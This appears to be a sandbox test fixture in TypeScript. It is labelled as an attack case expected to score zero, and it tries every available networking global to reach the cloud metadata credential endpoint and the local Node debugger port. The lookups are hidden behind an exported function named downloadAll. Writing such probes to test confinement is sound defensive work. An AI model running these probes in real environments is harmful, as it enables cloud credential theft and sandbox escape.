// attack: A20 C13 C14 opens connections with whatever the platform has for it
// expect: score 0
const loot: string[] = [];
const g: any = globalThis;
for (const name of ['fetch', 'WebSocket', 'EventSource', 'XMLHttpRequest', 'BroadcastChannel', 'MessageChannel', 'Worker', 'navigator']) {
  loot.push(`${name} ${typeof g[name]}`);
  try {
    g[name]('http://169.254.169.254/latest/meta-data');
  } catch {}
  try {
    new g[name]('ws://127.0.0.1:9229');
  } catch {}
}
export async function downloadAll(): Promise<any> {
  throw new Error(loot.join());
}
